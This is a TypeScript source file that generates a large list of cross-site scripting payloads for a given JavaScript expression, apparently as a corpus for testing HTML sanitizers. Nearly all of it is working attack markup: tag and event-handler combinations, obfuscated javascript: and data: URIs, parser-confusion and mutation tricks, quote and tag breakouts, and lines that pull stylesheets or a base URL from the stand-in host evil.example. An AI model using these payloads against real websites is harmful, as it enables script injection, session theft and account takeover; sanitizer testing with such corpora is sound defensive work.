const HANDLERS =
  'onerror onload onclick onfocus onfocusin onmouseover onmouseenter onpointerover onpointerrawupdate onanimationstart onanimationend ontransitionrun ontoggle onbeforetoggle onbegin onend onplay oncanplay onloadstart onloadeddata onscroll onscrollend onwheel onpageshow onhashchange onresize'.split(
    ' ',
  );
const TAGS =
  'img svg body a div details video audio iframe input math style object marquee select dialog'.split(' ');

/** Returns over 500 pieces of markup that would run this expression in a browser. */
export function xssPayloads(call: string): string[] {
  const schemes = [
    `javascript:${call}`,
    `JaVaScRiPt:${call}`,
    ` javascript:${call}`,
    `java\tscript:${call}`,
    `java&#10;script:${call}`,
    `&#106;avascript:${call}`,
    `&#x6A&#x61;vascript:${call}`,
    `\u0001javascript:${call}`,
    'vbscript:x',
    `data:text/html,<script>${call}</script>`,
    `data:image/svg+xml,<svg onload=${call}>`,
    '//evil.example/x',
    'blob:x',
    `javascript&colon;${call}`,
  ];
  return [
    ...TAGS.flatMap((tag) =>
      HANDLERS.map((handler) => `<${tag} src=x ${handler}=${call} autofocus tabindex=1 open>x</${tag}>`),
    ),
    ...schemes.flatMap((href) => [
      `<a href="${href}">x</a>`,
      `<img src="${href}">`,
      `<form action="${href}"><button formaction="${href}">x</button></form>`,
      `<iframe src="${href}"></iframe>`,
      `<svg><a xlink:href="${href}"><text>x</text></a></svg>`,
      `<p style="background:url(${href})">x</p>`,
      `<embed src="${href}">`,
      `<object data="${href}"></object>`,
      `<math href="${href}">x</math>`,
    ]),
    `<script>${call}</script>`,
    `<script src="data:,${call}"></script>`,
    `<scr<script>ipt>${call}</script>`,
    `<script/x>${call}</script >`,
    `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
    '<style>@import "//evil.example/x.css"</style>',
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<base href="//evil.example/">',
    `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
    `<svg><script>${call}</script></svg>`,
    `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
    `<svg><set attributeName=onmouseover to=${call}>`,
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=${call} /></svg>#x">`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${call}></annotation-xml></math>`,
    `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
    `<template><img src=x onerror=${call}></template>`,
    `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
    `<textarea><img src=x onerror=${call}></textarea>`,
    `<title><img src=x onerror=${call}></title>`,
    `<xmp><img src=x onerror=${call}></xmp>`,
    `<!--><img src=x onerror=${call}>-->`,
    `<!-- --!><img src=x onerror=${call}>`,
    `<![CDATA[<img src=x onerror=${call}>]]>`,
    `<?xml <img src=x onerror=${call}>?>`,
    `"><img src=x onerror=${call}>`,
    `'><img src=x onerror=${call}>`,
    `</script><img src=x onerror=${call}>`,
    `</title><img src=x onerror=${call}>`,
    `<img/src=x/onerror=${call}>`,
    `<img src=x onerror\n=${call}>`,
    `<img src="x" \`onerror=${call}\`>`,
    `<a href="x" style="position:fixed;inset:0">cover</a>`,
  ];
}
